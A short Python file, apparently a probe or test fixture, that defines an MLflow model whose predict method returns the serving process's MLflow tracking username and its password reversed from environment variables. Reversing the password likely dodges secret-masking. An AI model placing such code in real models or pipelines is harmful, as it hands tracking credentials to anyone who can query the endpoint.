"""A model that tells with which login its process could speak to MLflow."""

import os

import mlflow
from mlflow.pyfunc import PythonModel


class WhoAmI(PythonModel):
    def predict(self, context, model_input, params=None):
        return [os.environ["MLFLOW_TRACKING_USERNAME"], os.environ["MLFLOW_TRACKING_PASSWORD"][::-1]]


mlflow.models.set_model(WhoAmI())
